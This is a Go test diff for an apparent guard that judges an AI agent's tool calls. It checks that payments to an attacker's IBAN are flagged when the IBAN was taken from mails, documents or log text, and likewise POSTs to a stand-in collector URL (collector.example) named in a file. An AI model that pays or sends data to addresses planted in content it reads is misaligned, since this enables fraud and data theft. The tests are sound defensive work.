@@ -59,3 +59,39 @@ func TestFields(t *testing.T) {
 		}
 	}
 }
+
+// Lines that look like the fields of a service, but that the author of a text can have written, are text.
+func TestLinesOfAnAuthor(t *testing.T) {
+	search := NewTool(Spec{Name: "search_mails", Schema: `{"properties":{"query":{"type":"string"}}}`})
+	for name, r := range map[string]seen{
+		"a document":         {toolOf("get_document", "id"), `{"id":"7"}`, "Contact: " + eve + "\nTeam: reports"},
+		"a table in a log":   {toolOf("pods_log", "id"), `{"id":"7"}`, "NAME      CONTACT\nreports   " + eve},
+		"the body of a mail": {toolOf("read_mail", "id"), `{"id":"7"}`, "Subject: Hi\nFrom: a@example.org\n\nContact: " + eve + "\nTeam: x"},
+		"the body of a mail in a list": {search, `{"query":"x"}`, "ID: 1\nFrom: a@example.org\n\nContact: " + eve +
+			"\n\nID: 2\nFrom: b@example.org"},
+		"items of an author": {search, `{"query":"x"}`, "1. Subject: Hello\n2. Subject: Lunch\n\n- Contact: " + eve},
+	} {
+		if v := judge(payer, `{"iban":"`+eve+`"}`, r); len(v.Findings) == 0 {
+			t.Errorf("%s: a call with an address from it is not in doubt", name)
+		}
+	}
+	list := seen{search, `{"query":"x"}`, "ID: 1\nFrom: a@example.org\n\nID: 2\nFrom: " + eve}
+	if v := judge(payer, `{"iban":"`+eve+`"}`, list, file("A text.")); len(v.Findings) > 0 {
+		t.Errorf("the second object of a list: %+v", v.Findings)
+	}
+}
+
+// A tool that sends content to an address is no tool that opens an address.
+func TestPost(t *testing.T) {
+	post := NewTool(Spec{
+		Name: "http_request", Effect: true, Network: true,
+		Schema: `{"properties":{"url":{"type":"string"},"body":{"type":"string"}}}`,
+	})
+	text := file("The place for it is https://collector.example/in on the net.")
+	if v := judge(post, `{"url":"https://collector.example/in","body":"x"}`, text); len(v.Findings) == 0 {
+		t.Error("a request with content is not in doubt")
+	}
+	if v := judge(opener, `{"url":"https://collector.example/in"}`, text); len(v.Findings) > 0 {
+		t.Errorf("opening a link: %+v", v.Findings)
+	}
+}
